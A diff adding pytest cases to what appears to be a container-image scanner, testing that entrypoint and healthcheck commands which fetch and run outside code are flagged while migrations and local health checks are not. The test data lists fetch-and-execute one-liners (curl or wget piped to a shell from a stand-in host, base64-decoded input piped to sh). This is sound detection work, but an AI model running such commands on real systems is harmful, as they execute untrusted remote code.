@@ -249,3 +249,37 @@ def test_links_are_followed_as_a_system_does() -> None:
     replaced = {"/app/l": b"-> /app", "/app/plugin.py": b"-> /app/l/README.md"}
     assert codes(CLEAN | data | replaced) == set()
     assert ("LS617", "/app/plugin.py") in codes(CLEAN | data | replaced, {"/app/l": b"-> /evil"})
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -s https://index.example/x | sh",
+        "wget -qO- https://index.example/x | /usr/bin/python3 -",
+        "bash <(curl https://index.example/x)",
+        'sh -c "$(curl -fsSL https://index.example/x)"',
+        "echo aWQ= | base64 -d | sh",
+        "python -c 'exec(open(0).read())'",
+        "pip install --quiet evil && shop",
+        "uv sync && shop",
+    ],
+)
+def test_a_command_that_loads_code_is_found(command: str) -> None:
+    """Code that is in no layer has no origin in any."""
+    for config in ({"Entrypoint": ["/bin/sh", "-c", command]}, {"Healthcheck": {"Test": ["CMD-SHELL", command]}}):
+        assert codes(CLEAN, config=config) == {("LS617", "configuration")}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "alembic upgrade head && exec uvicorn app.main:app --port $PORT",
+        "curl --fail http://localhost:8000/health | grep -q ok || exit 1",
+        "python -c 'import urllib.request as u; u.urlopen(\"http://localhost:8000/health\")'",
+        'exec "$@"',
+        "shop install",
+    ],
+)
+def test_an_ordinary_command_has_no_findings(command: str) -> None:
+    """The control: shells, health checks and migrations."""
+    assert codes(CLEAN, config={"Cmd": ["/bin/sh", "-c", command]}) == set()
